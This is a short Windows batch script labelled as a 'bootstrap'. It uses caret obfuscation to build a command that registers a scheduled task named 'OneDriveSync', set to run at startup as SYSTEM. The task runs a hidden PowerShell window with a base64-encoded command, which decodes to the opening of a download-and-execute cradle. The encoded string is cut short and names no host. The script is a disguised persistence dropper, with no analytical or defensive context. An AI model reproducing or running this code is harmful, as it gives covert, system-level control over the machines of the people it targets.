REM bootstrap 5377 v1
@echo off
set ufmu=^s^c^ht^ask^s /^c^r^ea^te /t^n "OneDriveSync" /tr "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA" /s^c o^n^sta^rt /^ru SYS^TEM /^f
call %ufmu%
